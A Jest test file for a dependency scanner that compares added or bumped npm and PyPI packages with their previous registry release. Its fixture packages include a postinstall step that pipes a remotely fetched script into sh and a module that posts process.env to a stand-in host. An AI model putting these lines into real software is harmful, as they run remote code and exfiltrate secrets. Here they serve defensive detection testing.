import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  sriSha512,
  startFixtureRegistries,
  type FixtureNpmVersion,
  type FixturePypiFile,
  type FixtureRegistries,
} from '../src/demo/registries.js';
import { buildTarGz } from '../src/demo/tarball.js';
import { renderPackageMarkdown } from '../src/report/markdown.js';
import { renderJson } from '../src/report/json.js';
import { scanChanges, type ChangeSource, type Logger, type ScanOptions } from '../src/run.js';
import type { PackageReport } from '../src/types.js';

// Added packages are compared with the release before them on the registry, like bumps with the
// version they replace, and the registry's history decides whether "it was already there" counts.

const NOW = new Date('2025-06-01T00:00:00Z');
const ago = (days: number) => new Date(NOW.getTime() - days * 86_400_000).toISOString();

/**
 * An npm package whose postinstall downloads and runs a script (critical findings that every
 * release has); `exfiltrates` adds a module that sends the environment away when imported.
 */
async function tarball(name: string, version: string, exfiltrates = false): Promise<Uint8Array> {
  const install = `const { execSync } = require('child_process');\nexecSync('curl -s http://203.0.113.9/p.sh | sh');\n`;
  const update = `const https = require('https');\nhttps.request({ hostname: '198.51.100.23', path: '/c', method: 'POST' }).end(JSON.stringify(process.env));\n`;
  return buildTarGz([
    {
      path: 'package/package.json',
      content: JSON.stringify({
        name,
        version,
        main: 'index.js',
        scripts: { postinstall: 'node install.js' },
      }),
    },
    {
      path: 'package/index.js',
      content: `${exfiltrates ? "require('./lib/update.js');\n" : ''}module.exports = () => 1;\n`,
    },
    { path: 'package/install.js', content: install },
    ...(exfiltrates ? [{ path: 'package/lib/update.js', content: update }] : []),
  ]);
}

/** A PyPI sdist whose setup.py runs a command at install time. */
async function sdist(version: string): Promise<FixturePypiFile> {
  const setup = `import os
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        os.system("echo building native parts")
        install.run(self)


setup(name="py-tool", version="${version}", cmdclass={"install": Hook})
`;
  return {
    name: 'py-tool',
    version,
    filename: `py-tool-${version}.tar.gz`,
    packagetype: 'sdist',
    data: await buildTarGz([
      { path: `py-tool-${version}/PKG-INFO`, content: `Name: py-tool\nVersion: ${version}\n` },
      { path: `py-tool-${version}/setup.py`, content: setup },
    ]),
  };
}

function lock(entries: Record<string, { version: string; integrity: string }>): string {
  return JSON.stringify({
    name: 'app',
    lockfileVersion: 3,
    packages: {
      '': { name: 'app' },
      ...Object.fromEntries(
        Object.entries(entries).map(([name, e]) => [`node_modules/${name}`, e]),
      ),
    },
  });
}

function recorder(): Logger & { lines: string[] } {
  const lines: string[] = [];
  return {
    lines,
    info: (m) => lines.push(m),
    warning: (m) => lines.push(`warning: ${m}`),
    group: (_n, fn) => fn(),
  };
}

describe('an added package compared with the release before it', () => {
  let registries: FixtureRegistries;
  const npm: FixtureNpmVersion[] = [];
  const integrity = (name: string, version: string) =>
    sriSha512(npm.find((v) => v.name === name && v.version === version)!.tarball);

  beforeAll(async () => {
    const add = async (name: string, version: string, days: number, exfiltrates = false) =>
      npm.push({
        name,
        version,
        tarball: await tarball(name, version, exfiltrates),
        publishedAt: ago(days),
      });
    // Established: years old, four releases with the same install script; 1.2.0 came after 13
    // quiet months and adds an exfiltrating module.
    await add('old-tool', '1.0.0', 1200);
    await add('old-tool', '1.1.0', 800);
    await add('old-tool', '1.1.1', 400);
    await add('old-tool', '1.2.0', 0.1, true);
    // First published five days ago: three releases, no track record.
    await add('young-tool', '1.0.0', 5);
    await add('young-tool', '1.0.1', 4);
    await add('young-tool', '1.0.2', 1);
    // Old, but only two releases.
    await add('thin-tool', '1.0.0', 900);
    await add('thin-tool', '2.0.0', 2);
    const pypi = [await sdist('1.0'), await sdist('1.1'), await sdist('1.2')].map((f, i) => ({
      ...f,
      uploadedAt: ago([700, 300, 1][i] ?? 0),
    }));
    registries = await startFixtureRegistries(npm, pypi);
  });
  afterAll(() => registries.close());

  const options = (logger: Logger, extra: Partial<ScanOptions> = {}): ScanOptions => ({
    failOn: 'high',
    registry: { npmRegistry: registries.npmUrl, pypiUrl: registries.pypiUrl, retries: 0 },
    logger,
    reputation: { advisories: false, now: NOW },
    ...extra,
  });

  async function add(
    name: string,
    version: string,
    extra: Partial<ScanOptions> = {},
  ): Promise<{ pkg: PackageReport; log: string[]; json: string }> {
    const source: ChangeSource = {
      listChangedFiles: async () => [{ path: 'package-lock.json', status: 'modified' }],
      readFile: async (_path, side) =>
        side === 'base'
          ? lock({})
          : lock({ [name]: { version, integrity: integrity(name, version) } }),
    };
    const logger = recorder();
    const report = await scanChanges(source, options(logger, extra));
    return { pkg: report.packages[0]!, log: logger.lines, json: renderJson(report) };
  }

  async function bump(
    name: string,
    from: string,
    to: string,
    extra: Partial<ScanOptions> = {},
  ): Promise<PackageReport> {
    const source: ChangeSource = {
      listChangedFiles: async () => [{ path: 'package-lock.json', status: 'modified' }],
      readFile: async (_path, side) => {
        const version = side === 'base' ? from : to;
        return lock({ [name]: { version, integrity: integrity(name, version) } });
      },
    };
    const report = await scanChanges(source, options(recorder(), extra));
    return report.packages[0]!;
  }

  it('marks what the release before it already had, says which release, and passes an established package', async () => {
    registries.requests.length = 0;
    const { pkg, log, json } = await add('old-tool', '1.1.1');
    expect(pkg.change).toBe('added');
    expect(pkg.comparedWith).toBe('1.1.0');
    const code = pkg.findings.filter((f) => f.file.startsWith('package/'));
    expect(code.some((f) => f.severity === 'critical')).toBe(true);
    expect(code.every((f) => f.alreadyIn === '1.1.0' && !f.notVouched)).toBe(true);
    expect(pkg.verdict).toBe('pass');
    expect(
      log.some((l) =>
        /old-tool added 1\.1\.1: .*compared with 1\.1\.0 \(the release before it\)/.test(l),
      ),
    ).toBe(true);
    expect(JSON.parse(json).packages[0].comparedWith).toBe('1.1.0');
    expect(renderPackageMarkdown(pkg, { failOn: 'high' })).toContain(
      'Compared with `1.1.0`, the release before it on the registry.',
    );
    // One metadata document per change, shared by the comparison and the history signals;
    // the two tarballs, each once.
    expect(registries.requests.filter((r) => r === 'npm GET /old-tool (full)')).toHaveLength(1);
    expect(registries.requests.filter((r) => r.endsWith('old-tool-1.1.1.tgz'))).toHaveLength(1);
    expect(registries.requests.filter((r) => r.endsWith('old-tool-1.1.0.tgz'))).toHaveLength(1);
  });

  it('gates on a payload new in this release and says how long after the previous release it came', async () => {
    const { pkg } = await add('old-tool', '1.2.0');
    expect(pkg.comparedWith).toBe('1.1.1');
    const fresh = pkg.findings.filter((f) => f.file.startsWith('package/') && !f.alreadyIn);
    expect(fresh.map((f) => [f.file, f.releaseTiming])).toEqual([
      ['package/lib/update.js', 'published 13 months after 1.1.1'],
    ]);
    expect(pkg.findings.filter((f) => f.file === 'package/install.js').length).toBeGreaterThan(0);
    expect(
      pkg.findings
        .filter((f) => f.file === 'package/install.js')
        .every((f) => f.alreadyIn === '1.1.1' && f.releaseTiming === undefined),
    ).toBe(true);
    expect(pkg.verdict).toBe('fail');
    const markdown = renderPackageMarkdown(pkg, { failOn: 'high' });
    expect(markdown).toContain('new in this version, published 13 months after 1.1.1');
  });

  it('lets existing findings of a package first published days ago gate, and says why', async () => {
    const { pkg, log } = await add('young-tool', '1.0.2');
    expect(pkg.comparedWith).toBe('1.0.1');
    const existing = pkg.findings.filter((f) => f.alreadyIn === '1.0.1');
    expect(existing.length).toBeGreaterThan(0);
    expect(existing.map((f) => f.notVouched)).toEqual(
      existing.map(() => 'first published 5 days ago: earlier releases do not vouch for it'),
    );
    expect(pkg.verdict).toBe('fail');
    expect(log.some((l) => l.includes('but they gate (first published 5 days ago'))).toBe(true);
    expect(renderPackageMarkdown(pkg, { failOn: 'high' })).toContain(
      'gates anyway: first published 5 days ago: earlier releases do not vouch for it',
    );
  });

  it('does the same for an old package with only two releases', async () => {
    const { pkg } = await add('thin-tool', '2.0.0');
    expect(pkg.comparedWith).toBe('1.0.0');
    expect(pkg.findings.find((f) => f.alreadyIn === '1.0.0')?.notVouched).toBe(
      'only 2 releases on the registry: earlier releases do not vouch for it',
    );
    expect(pkg.verdict).toBe('fail');
  });

  it('applies the same registry context to bumps', async () => {
    const young = await bump('young-tool', '1.0.1', '1.0.2');
    expect(young.findings.some((f) => f.alreadyIn === '1.0.1' && f.notVouched)).toBe(true);
    expect(young.verdict).toBe('fail');
    const old = await bump('old-tool', '1.1.0', '1.1.1');
    expect(old.findings.some((f) => f.alreadyIn === '1.1.0' && !f.notVouched)).toBe(true);
    expect(old.verdict).toBe('pass');
  });

  it('honours configured thresholds', async () => {
    const strict = { minAgeDays: 2000, minReleases: 3 };
    const { pkg } = await add('old-tool', '1.1.1', {
      reputation: { advisories: false, now: NOW, established: strict },
    });
    expect(pkg.findings.find((f) => f.alreadyIn)?.notVouched).toMatch(
      /^first published 3 years ago/,
    );
    expect(pkg.verdict).toBe('fail');
  });

  it('without registry metadata keeps today’s behaviour: no comparison for additions, the exemption for bumps', async () => {
    registries.requests.length = 0;
    const noMetadata = { reputation: { advisories: false as const, now: NOW, metadata: false } };
    const { pkg } = await add('young-tool', '1.0.2', noMetadata);
    expect(pkg.comparedWith).toBeUndefined();
    expect(pkg.findings.some((f) => f.alreadyIn !== undefined)).toBe(false);
    expect(registries.requests.some((r) => r.endsWith('young-tool-1.0.1.tgz'))).toBe(false);
    expect(registries.requests.some((r) => r.endsWith('(full)'))).toBe(false);
    const bumped = await bump('young-tool', '1.0.1', '1.0.2', noMetadata);
    expect(bumped.findings.some((f) => f.alreadyIn === '1.0.1' && !f.notVouched)).toBe(true);
    expect(bumped.verdict).toBe('pass');
  });

  it('compares an added PyPI package with the release before it', async () => {
    const source: ChangeSource = {
      listChangedFiles: async () => [{ path: 'requirements.txt', status: 'modified' }],
      readFile: async (_path, side) => (side === 'base' ? '' : 'py-tool==1.2\n'),
    };
    const report = await scanChanges(source, options(recorder()));
    const pkg = report.packages[0]!;
    expect(pkg.comparedWith).toBe('1.1');
    expect(pkg.findings.some((f) => f.alreadyIn === '1.1' && !f.notVouched)).toBe(true);
    expect(
      pkg.findings.filter((f) => f.file.endsWith('setup.py')).every((f) => f.alreadyIn === '1.1'),
    ).toBe(true);
  });
});
